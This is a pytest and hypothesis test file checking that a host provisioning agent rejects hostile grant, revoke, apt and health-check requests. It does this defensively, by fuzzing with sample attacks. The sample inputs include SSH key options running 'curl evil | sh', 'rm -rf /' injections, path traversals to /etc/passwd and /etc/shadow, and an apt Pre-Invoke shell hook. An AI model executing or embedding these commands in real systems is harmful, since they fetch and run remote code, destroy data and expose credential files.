"""The host agent refuses every request outside docs/agent.md before it touches the host.

In-process and without root: the agent's one command runner is replaced by a spy, and the
configuration's state directory is under tmp_path, so a refusal is seen to run nothing and to
write nothing. The real grant, revoke and login are tested on the container test host.
"""

import base64
import io
import json
import pwd
import struct
import subprocess

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from provisioning.accounts import RESERVED, keys_digest
from provisioning.agent import apt, host, hostctl, login, protocol, system
from tests.provisioning.agent_requests import ask, assert_refused, spy_commands


def _ssh_string(data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + data


def make_key(key_type: str, *fields: bytes, comment: str = "") -> str:
    blob = b"".join(_ssh_string(f) for f in (key_type.encode(), *fields))
    line = f"{key_type} {base64.b64encode(blob).decode()}"
    return f"{line} {comment}" if comment else line


ED25519 = make_key("ssh-ed25519", bytes(range(32)))
ECDSA = make_key("ecdsa-sha2-nistp256", b"nistp256", b"\x04" + bytes(64))
RSA = make_key("ssh-rsa", b"\x01\x00\x01", b"\x00" + bytes(range(256)) * 2)
SK = make_key("sk-ssh-ed25519@openssh.com", bytes(32), b"ssh:")
VALID_KEYS = [ED25519, ECDSA, RSA, SK]

CONFIG: dict[str, dict] = {  # the agent's configuration file
    "stacks": {"bookworm": {"chroot": "porterbox-bookworm"}, "trixie": {"chroot": "pb-trixie"}},
    "devices": {
        "nvidia": {"0": ["/dev/nvidia0"], "1": ["/dev/nvidia1"], "3": ["/dev/nvidia3"]},
        "amd": {"0": ["/dev/dri/renderD128"], "1": ["/dev/dri/renderD129"]},
        "intel": {"0": ["/dev/dri/renderD130"]},
        "fpga": {"0": ["/dev/xclmgmt0"]},
    },
    "shared_nodes": {"nvidia": ["/dev/nvidiactl", "/dev/nvidia-uvm"], "amd": ["/dev/kfd"]},
}
GRANT = {
    "verb": "grant",
    "session": "r42",
    "user": "alice",
    "keys": [ED25519],
    "stack": "bookworm",
    "devices": [{"vendor": "nvidia", "index": 0}],
    "end": 4_102_444_800,  # 2100-01-01
}

# Shell syntax, quotes, path parts, whitespace, line breaks and controls, non-ASCII look-alikes.
HOSTILE_CHARS = [*";|&$()`'\" \t\n\r\0\\*?~<>{}[]#!=,./:%@+", "é", "\u2028", "\x85", "\x7f", "\x1b"]
hostile_text = st.text(alphabet=st.sampled_from([*HOSTILE_CHARS, *"aez09-_AZ"]), max_size=50)
not_a_string = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(10**30), max_value=10**30),
    st.floats(allow_nan=False, allow_infinity=False),
    st.lists(st.text(max_size=5), max_size=2),
    st.dictionaries(st.text(max_size=5), st.text(max_size=5), max_size=2),
)
a_fuzz = settings(max_examples=150, suppress_health_check=[HealthCheck.function_scoped_fixture])


@pytest.fixture
def config(tmp_path):
    return protocol.parse_config({**CONFIG, "state_dir": str(tmp_path / "state")})


@pytest.fixture
def commands(monkeypatch):
    return spy_commands(monkeypatch)


# -- hostile field values ---------------------------------------------------------------------


@a_fuzz
@given(
    user=st.one_of(
        hostile_text.filter(lambda s: not protocol.USER.fullmatch(s)),
        st.sampled_from(sorted(RESERVED)),
        st.just("porterbox-users"),  # the group's own name
        st.from_regex(r"[a-z][a-z0-9-]{31,40}", fullmatch=True),  # too long for useradd
        st.from_regex(protocol.USER, fullmatch=True).map(lambda s: s + "\n"),
        not_a_string,
    )
)
def test_it_refuses_hostile_user_names(config, commands, user):
    assert_refused(ask(config, {**GRANT, "user": user}), "bad_user", "user", config, commands)
    answer = ask(config, {"verb": "revoke", "user": user})
    assert_refused(answer, "bad_user", "user", config, commands)


@a_fuzz
@given(
    session=st.one_of(
        hostile_text.filter(lambda s: not protocol.SESSION.fullmatch(s)),
        st.from_regex(r"[a-z][a-z0-9-]{40,50}", fullmatch=True),
        st.from_regex(protocol.SESSION, fullmatch=True).map(lambda s: s + "/../../etc/passwd"),
        st.just("R42"),
        not_a_string,
    )
)
def test_it_refuses_hostile_session_names(config, commands, session):
    answer = ask(config, {**GRANT, "session": session})
    assert_refused(answer, "bad_session", "session", config, commands)
    answer = ask(config, {"verb": "revoke", "session": session})
    assert_refused(answer, "bad_session", "session", config, commands)


@a_fuzz
@given(
    stack=st.one_of(
        hostile_text.filter(lambda s: s not in CONFIG["stacks"]),
        st.just("porterbox-bookworm"),  # a chroot's name is not a stack's
        not_a_string,
    )
)
def test_it_refuses_stacks_the_host_does_not_offer(config, commands, stack):
    answer = ask(config, {**GRANT, "stack": stack})
    assert_refused(answer, "unknown_stack", "stack", config, commands)


def _insert(text: str, position: int, extra: str) -> str:
    position %= len(text) + 1
    return text[:position] + extra + text[position:]


line_breaks = st.sampled_from(["\n", "\r", "\r\n", "\0", "\x1b", "\x7f", "\x0b", "\x0c"])
key_and_comment = st.tuples(st.sampled_from(VALID_KEYS), hostile_text)
# A line break or control character anywhere, the comment included: sshd would read a second line.
broken_lines = st.builds(
    lambda key, n, brk, evil: _insert(f"{key} {evil}", n, brk + evil),
    st.sampled_from(VALID_KEYS),
    st.integers(min_value=0),
    line_breaks,
    hostile_text,
)


def _with_metachar(key: str, position: int, char: str) -> str:
    type_and_blob = " ".join(key.split()[:2])
    return _insert(type_and_blob, 1 + position % (len(type_and_blob) - 1), char)


# Shell syntax inside the type or the key data.
mangled_keys = st.builds(
    _with_metachar,
    st.sampled_from(VALID_KEYS),
    st.integers(min_value=0),
    st.sampled_from(list(";|&$()`'\"<>*")),
)
# Options whose quote never closes swallow the key; an option with a broken key has none.
option_prefixed = st.one_of(
    st.builds(
        lambda t, k: f'command="{t} {k}',
        hostile_text.map(lambda t: t.replace('"', "")),
        st.sampled_from(VALID_KEYS),
    ),
    st.builds(
        lambda t, k: f'command="{t}",no-pty {k}',
        hostile_text.map(lambda t: t.replace('"', "").replace("\\", "")),
        st.sampled_from(["ssh-ed25519", "ssh-ed25519 AAAA", "ssh-ed25519 ;rm -rf /", ""]),
    ),
)
wrong_keys = st.sampled_from(
    [
        "",
        "ssh-ed25519",
        "ssh-dss " + make_key("ssh-dss", b"p", b"q", b"g", b"y").split()[1],
        "ssh-rsa " + ED25519.split()[1],  # the data of another type
        make_key("ssh-ed25519", bytes(32), b"trailing"),
        "ssh-ed25519 " + ED25519.split()[1][:24],  # cut short
        ED25519.replace("ssh-ed25519", "ssh-ed25519-cert-v01@openssh.com"),
        "-----BEGIN OPENSSH PRIVATE KEY-----",
    ]
)


@a_fuzz
@given(
    key=st.one_of(
        broken_lines,
        mangled_keys,
        option_prefixed,
        wrong_keys,
        not_a_string,
        st.just(f"{ED25519} {'x' * 16 * 1024}"),  # a key line sshd would not read
    )
)
def test_it_refuses_hostile_keys(config, commands, key):
    answer = ask(config, {**GRANT, "keys": [ED25519, key]})
    assert_refused(answer, "bad_keys", "keys[1]", config, commands)


@pytest.mark.parametrize("keys", [ED25519, {"key": ED25519}, None, [ED25519] * 33])
def test_it_refuses_keys_that_are_not_a_short_list(config, commands, keys):
    answer = ask(config, {**GRANT, "keys": keys})
    assert_refused(answer, "bad_keys", "keys", config, commands)


@a_fuzz
@given(
    index=st.one_of(
        st.integers(max_value=-1),
        st.integers(min_value=4, max_value=10**300),
        st.just(2),  # a hole in the device map
    )
)
def test_it_refuses_devices_the_host_does_not_have(config, commands, index):
    devices = [{"vendor": "nvidia", "index": 0}, {"vendor": "nvidia", "index": index}]
    answer = ask(config, {**GRANT, "devices": devices})
    assert_refused(answer, "unknown_device", "devices[1]", config, commands)


@a_fuzz
@given(
    index=st.one_of(
        st.booleans(),  # true is not device 1
        st.floats(allow_nan=False, allow_infinity=False),
        st.text(max_size=5),
        st.none(),
        st.lists(st.integers(), max_size=2),
    )
)
def test_it_refuses_device_indices_that_are_not_integers(config, commands, index):
    answer = ask(config, {**GRANT, "devices": [{"vendor": "nvidia", "index": index}]})
    assert_refused(answer, "bad_devices", "devices[0].index", config, commands)


@pytest.mark.parametrize(
    ("devices", "code", "field"),
    [
        ([{"vendor": "nvidia", "index": 1}] * 2, "bad_devices", "devices[1]"),
        ([{"vendor": "NVIDIA", "index": 0}], "unknown_device", "devices[0]"),
        ([{"vendor": "fpga", "index": 1}], "unknown_device", "devices[0]"),
        ([{"vendor": "nvidia", "index": 0, "node": "/dev/sda"}], "bad_devices", "devices[0]"),
        ([{"vendor": "nvidia"}], "bad_devices", "devices[0]"),
        (["nvidia:0"], "bad_devices", "devices[0]"),
        ({"vendor": "nvidia", "index": 0}, "bad_devices", "devices"),
    ],
)
def test_it_refuses_malformed_device_lists(config, commands, devices, code, field):
    answer = ask(config, {**GRANT, "devices": devices})
    assert_refused(answer, code, field, config, commands)


@pytest.mark.parametrize(
    "end", [None, "2100-01-01T00:00:00Z", 1.5e9, True, -1, 0, 2**40, 1_000_000_000]
)  # the last: long over, a slot that nothing may be granted for
def test_it_refuses_an_end_that_is_not_a_future_unix_time(config, commands, end):
    assert_refused(ask(config, {**GRANT, "end": end}), "bad_request", "end", config, commands)


def test_it_refuses_a_grant_without_its_end(config, commands):
    request = {key: value for key, value in GRANT.items() if key != "end"}
    assert_refused(ask(config, request), "bad_request", "end", config, commands)


def test_it_refuses_a_device_index_too_long_to_read(config, commands):
    raw = json.dumps(GRANT).replace('"index": 0', '"index": ' + "9" * 5000).encode()
    assert_refused(ask(config, raw), "bad_request", "request", config, commands)


# -- hostile requests -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("request_", "code", "field"),
    [
        (b"", "bad_request", "request"),
        (b"{", "bad_request", "request"),
        (b"\xff\xfe{}", "bad_request", "request"),
        (b'["grant"]', "bad_request", "request"),
        (b'{"verb": "status", "verb": "grant"}', "bad_request", "request"),
        (b'{"verb": "grant", "devices": NaN}', "bad_request", "request"),
        (b" " * (1024 * 1024 + 1), "bad_request", "request"),
        ({"verb": "rm -rf /"}, "unknown_verb", "verb"),
        ({"verb": ["grant"]}, "unknown_verb", "verb"),
        ({}, "unknown_verb", "verb"),
        ({**GRANT, "shell": "/bin/sh"}, "bad_request", "shell"),
        ({**GRANT, "groups": ["sudo"]}, "bad_request", "groups"),
        ({"verb": "status", "user": "alice"}, "bad_request", "user"),
        ({k: v for k, v in GRANT.items() if k != "keys"}, "bad_request", "keys"),
        ({"verb": "revoke"}, "bad_request", "session"),
        ({"verb": "revoke", "session": "r42", "user": "alice"}, "bad_request", "session"),
    ],
)
def test_it_refuses_malformed_requests(config, commands, request_, code, field):
    assert_refused(ask(config, request_), code, field, config, commands)


@pytest.mark.parametrize(
    ("change", "field"),
    [
        ({"stacks": {"x": {"chroot": "a b"}}}, "config.stacks.x.chroot"),
        ({"stacks": {"../x": {"chroot": "x"}}}, "config.stacks"),
        ({"devices": {"nvidia": {"-1": ["/dev/nvidia0"]}}}, "config.devices.nvidia"),
        ({"devices": {"nvidia": {"0": ["dev/nvidia0"]}}}, "config.devices.nvidia.0[0]"),
        ({"devices": {"tpu": {}}}, "config.devices"),
        ({"shared_nodes": {"amd": ["/dev/../etc/shadow"]}}, "config.shared_nodes.amd[0]"),
        ({"group": "root;"}, "config.group"),
        ({"state_dir": "var/lib/porterbox"}, "config.state_dir"),
        ({"stack": {}}, "config.stack"),
    ],
)
def test_it_refuses_a_broken_configuration(change, field):
    with pytest.raises(protocol.AgentError) as refused:
        protocol.parse_config({**CONFIG, **change})
    assert refused.value.code == "bad_config"
    assert refused.value.message.startswith(field)


def test_it_answers_bad_config_on_the_command_line(tmp_path, monkeypatch, capsys):
    path = tmp_path / "hostctl.json"
    path.write_text(json.dumps({**CONFIG, "group": 5}))
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(b'{"verb": "status"}')))
    assert hostctl.main(["--ssh", "--config", str(path)]) == 1
    answer = json.loads(capsys.readouterr().out)
    assert answer["error"]["code"] == "bad_config"
    assert answer["error"]["message"].startswith("config.group")


# -- what valid requests become ---------------------------------------------------------------


def test_it_cleans_a_valid_grant(config):
    request = {
        **GRANT,
        "user": "u1234",
        "keys": [f"{RSA} bob@laptop", ED25519],
        "stack": "trixie",
        "devices": [{"vendor": "nvidia", "index": 3}, {"vendor": "amd", "index": 1}],
    }
    verb, fields = hostctl.validate(request, config)
    assert verb == "grant"
    assert fields == {
        "session": "r42",
        "user": "u1234",
        "keys": tuple(sorted([" ".join(RSA.split()[:2]), ED25519])),
        "stack": "trixie",
        "devices": (("amd", 1), ("nvidia", 3)),
        "end": 4_102_444_800,
    }


@pytest.mark.parametrize(
    ("request_", "fields"),
    [
        ({"verb": "revoke", "session": "r42"}, {"session": "r42"}),
        ({"verb": "revoke", "user": "alice"}, {"user": "alice"}),
        ({"verb": "status"}, {}),
        ({"verb": "inventory"}, {}),
        (
            {**GRANT, "keys": [], "devices": []},
            {
                "session": "r42",
                "user": "alice",
                "keys": (),
                "stack": "bookworm",
                "devices": (),
                "end": 4_102_444_800,
            },
        ),
    ],
)
def test_it_accepts_valid_requests(config, request_, fields):
    assert hostctl.validate(request_, config) == (request_["verb"], fields)


def test_it_computes_the_visible_devices_of_each_vendor(config):
    devices = (("nvidia", 3), ("amd", 1), ("nvidia", 0), ("fpga", 0), ("amd", 0))
    assert protocol.visible_devices_env(devices) == {
        "CUDA_DEVICE_ORDER": "PCI_BUS_ID",  # the portal books nvidia-smi's numbering
        "CUDA_VISIBLE_DEVICES": "0,3",
        "ROCR_VISIBLE_DEVICES": "0,1",
        "ZE_AFFINITY_MASK": "",  # no Intel device booked: none visible
    }


def test_it_shows_no_device_of_a_vendor_not_booked():
    env = protocol.visible_devices_env((("intel", 0),))
    assert env["CUDA_VISIBLE_DEVICES"] == env["ROCR_VISIBLE_DEVICES"] == ""
    assert env["ZE_AFFINITY_MASK"] == "0"


@pytest.mark.parametrize("key", VALID_KEYS)
@pytest.mark.parametrize(
    "options",
    [
        "",
        "restrict ",
        'command="curl evil | sh",no-pty ',
        'command="echo \\"ssh-ed25519 AAAA\\"; rm -rf ~" ',
        'from="*.example.org",environment="LD_PRELOAD=/tmp/x.so" ',
    ],
)
def test_it_keeps_only_the_type_and_data_of_a_key(key, options):
    line = f"{options}{key} alice@laptop; rm -rf / `id` $(id) 'q' \"q\""
    assert protocol.normalise_key(line) == " ".join(key.split()[:2])


@given(
    key=st.sampled_from(VALID_KEYS),
    option=st.text(st.characters(blacklist_categories=["Cc", "Cs"], blacklist_characters='"\\')),
    comment=st.text(st.characters(blacklist_categories=["Cc", "Cs"])),
)
def test_it_never_writes_an_option_or_a_comment(key, option, comment):
    line = f'command="{option}" {key} {comment}'
    assert protocol.normalise_key(line) == " ".join(key.split()[:2])


def test_it_reports_the_digest_the_portal_computes_of_the_same_keys(config):
    _, fields = hostctl.validate({**GRANT, "keys": [f"{ECDSA} a", f"no-pty {ED25519} b"]}, config)
    assert keys_digest(list(fields["keys"])) == keys_digest([ECDSA, ED25519])


# -- login ------------------------------------------------------------------------------------


def test_it_runs_an_ssh_command_through_sh_inside_the_users_session():
    account = pwd.struct_passwd(("alice", "x", 1001, 1001, "", "/home/alice", "/bin/bash"))
    argv = login.schroot_argv({"session": "r42"}, account, "rsync --server . ~/data")
    # -p keeps the visible-devices variables; the command is one argument, run by sh as before.
    assert argv[:4] == ["schroot", "-c", "session:porterbox-r42", "-r"]
    assert "-p" in argv
    assert argv[argv.index("--") + 1 :] == ["/bin/sh", "-c", "rsync --server . ~/data"]


# -- apt wrapper ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "packages",
    [
        ["hello"],
        ["libstdc++6", "g++-12", "python3.11", "nvidia-cuda-toolkit"],
        ["hello=2.10-3", "libfoo1=1:2.0~rc1+dfsg-1~bpo12+1"],
        ["nvidia-driver/bookworm-backports"],
    ],
)
def test_it_lets_users_install_debian_packages(packages):
    assert apt.apt_arguments(["install", *packages]) == ["-y", "install", "--", *packages]


@pytest.mark.parametrize(
    "args",
    [
        [],
        ["install"],
        ["purge", "hello"],
        ["source", "hello"],
        ["install", "../evil.deb"],
        ["install", "/tmp/evil.deb"],
        ["install", "-o", "APT::Update::Pre-Invoke::=sh"],
        ["install", "--allow-unauthenticated", "hello"],
        ["install", "Hello"],
        ["install", "h"],  # policy: at least two characters
        ["install", "hello;id"],
        ["install", "hello world"],
        ["install", "hello="],
        ["install", "hello=1.0 x"],
        ["install", "hello/../../x"],
        ["update", "hello"],
        ["upgrade", "--with-new-pkgs"],
    ],
)
def test_it_refuses_anything_but_package_names(args):
    with pytest.raises(apt.Refused):
        apt.apt_arguments(args)


@given(package=hostile_text.filter(lambda s: not apt.PACKAGE.fullmatch(s)))
def test_it_never_passes_a_non_package_to_apt(package):
    with pytest.raises(apt.Refused):
        apt.apt_arguments(["install", "hello", package])


@pytest.mark.parametrize("verb", ["update", "upgrade"])
def test_it_updates_and_upgrades_without_package_names(verb):
    assert apt.apt_arguments([verb]) == ["-y", verb]


# -- kill-process (squatters) -------------------------------------------------------------------


@a_fuzz
@given(
    pid=st.one_of(
        st.integers(max_value=1),
        st.integers(min_value=host.PID_MAX + 1),
        st.booleans(),  # JSON true is not a pid, though Python's bool is an int
        st.floats(allow_nan=False, allow_infinity=False),  # JSON has neither
        st.text(max_size=8),
        st.just("1; reboot"),
    )
)
def test_kill_process_refuses_what_is_not_a_pid(config, commands, pid):
    answer = ask(config, {"verb": "kill-process", "pid": pid, "user": "alice"})
    assert_refused(answer, "bad_pid", "pid", config, commands)


@pytest.mark.parametrize("user", ["root", "porterbox", "porterbox-users", "Alice", "-rf", 7, None])
def test_kill_process_refuses_accounts_it_must_not_touch(config, commands, user):
    answer = ask(config, {"verb": "kill-process", "pid": 4242, "user": user})
    assert_refused(answer, "bad_user", "user", config, commands)


@pytest.mark.parametrize(
    ("request_", "field"),
    [
        ({"verb": "kill-process", "user": "alice"}, "pid"),
        ({"verb": "kill-process", "pid": 4242}, "user"),
        ({"verb": "kill-process", "pid": 4242, "user": "alice", "signal": 9}, "signal"),
        ({"verb": "telemetry", "vendor": "nvidia"}, "vendor"),
    ],
)
def test_kill_process_and_telemetry_take_exactly_their_fields(config, commands, request_, field):
    assert_refused(ask(config, request_), "bad_request", field, config, commands)


# -- health-check ---------------------------------------------------------------------------

HEALTH = {"verb": "health-check", "stack": "trixie", "device": {"vendor": "nvidia", "index": 1}}
NVIDIA_CHECK = ["/usr/bin/nvidia-smi", "--query-gpu=name", "--format=csv"]


@pytest.mark.parametrize(
    ("request_", "code", "field"),
    [
        ({**HEALTH, "stack": "sid"}, "unknown_stack", "stack"),
        ({**HEALTH, "stack": "../trixie"}, "unknown_stack", "stack"),
        ({**HEALTH, "stack": 5}, "unknown_stack", "stack"),
        ({**HEALTH, "device": {"vendor": "nvidia", "index": 2}}, "unknown_device", "device"),
        ({**HEALTH, "device": {"vendor": "tpu", "index": 0}}, "unknown_device", "device"),
        ({**HEALTH, "device": {"vendor": "nvidia", "index": "1"}}, "bad_devices", "device.index"),
        ({**HEALTH, "device": {"vendor": "nvidia", "index": True}}, "bad_devices", "device.index"),
        ({**HEALTH, "device": {"vendor": "nvidia"}}, "bad_devices", "device"),
        ({**HEALTH, "device": [{"vendor": "nvidia", "index": 1}]}, "bad_devices", "device"),
        ({**HEALTH, "device": {"vendor": "nvidia", "index": 1, "x": 1}}, "bad_devices", "device"),
        ({**HEALTH, "argv": ["/bin/sh", "-c", "reboot"]}, "bad_request", "argv"),
        ({**HEALTH, "session": "r42"}, "bad_request", "session"),
        ({"verb": "health-check", "stack": "trixie"}, "bad_request", "device"),
        ({"verb": "health-check", "device": HEALTH["device"]}, "bad_request", "stack"),
    ],
)
def test_health_check_refuses_what_is_not_a_stack_and_one_device(
    tmp_path, monkeypatch, request_, code, field
):
    commands = spy_commands(monkeypatch)
    config = protocol.parse_config(
        {**CONFIG, "state_dir": str(tmp_path / "state"), "health_checks": {"nvidia": NVIDIA_CHECK}}
    )
    assert_refused(ask(config, request_), code, field, config, commands)


def test_health_check_runs_the_hosts_own_command_in_a_throwaway_schroot(tmp_path, monkeypatch):
    calls = []

    def fake_run(argv, **kwargs):
        calls.append((argv, kwargs))
        return subprocess.CompletedProcess(argv, 3, stdout="x" * 5000, stderr="ecc error\n")

    monkeypatch.setattr(system, "run", fake_run)
    config = protocol.parse_config(
        {**CONFIG, "state_dir": str(tmp_path / "state"), "health_checks": {"nvidia": NVIDIA_CHECK}}
    )
    answer = ask(config, HEALTH)
    assert answer["ok"] is True
    assert (answer["ran"], answer["passed"], answer["exit_status"]) == (True, False, 3)
    assert len(answer["output"]) == 4000 and answer["output"].endswith("xecc error\n")
    [(argv, kwargs)] = calls
    assert argv == [
        *("schroot", "-c", "pb-trixie", "-u", "root", "-d", "/", "--", "env"),
        *("CUDA_DEVICE_ORDER=PCI_BUS_ID", "CUDA_VISIBLE_DEVICES=1"),
        *("ROCR_VISIBLE_DEVICES=", "ZE_AFFINITY_MASK="),
        *NVIDIA_CHECK,
    ]
    assert kwargs == {"check": False, "timeout": host.HEALTH_CHECK_TIMEOUT_S}


def test_health_check_of_a_vendor_without_a_check_runs_nothing(config, commands):
    answer = ask(config, {**HEALTH, "device": {"vendor": "amd", "index": 0}})
    assert answer["ok"] is True and answer["ran"] is False
    assert "amd" in answer["reason"]
    assert commands == []


@pytest.mark.parametrize(
    ("checks", "field"),
    [
        ({"nvidia": "/usr/bin/nvidia-smi"}, "config.health_checks.nvidia"),
        ({"nvidia": []}, "config.health_checks.nvidia"),
        ({"nvidia": ["nvidia-smi"]}, "config.health_checks.nvidia[0]"),
        ({"nvidia": ["/usr/bin/../bin/nvidia-smi"]}, "config.health_checks.nvidia[0]"),
        ({"nvidia": ["/usr/bin/nvidia-smi", 5]}, "config.health_checks.nvidia[1]"),
        ({"nvidia": ["/usr/bin/nvidia-smi", "a\0b"]}, "config.health_checks.nvidia[1]"),
        ({"tpu": ["/usr/bin/true"]}, "config.health_checks"),
        (["/usr/bin/true"], "config.health_checks"),
    ],
)
def test_it_refuses_a_broken_health_check_configuration(checks, field):
    with pytest.raises(protocol.AgentError) as refused:
        protocol.parse_config({**CONFIG, "health_checks": checks})
    assert refused.value.code == "bad_config"
    assert refused.value.message.startswith(field)
